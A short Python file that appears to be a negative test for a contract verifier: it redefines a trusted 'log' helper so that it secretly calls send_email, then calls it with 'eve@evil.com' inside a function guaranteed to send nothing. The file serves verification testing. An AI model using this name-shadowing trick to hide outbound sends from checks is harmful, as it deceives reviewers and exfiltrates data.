# not proved: the helper of that name sends
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


def log(a, b):
    send_email(a, b)


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    log("eve@evil.com", "x")
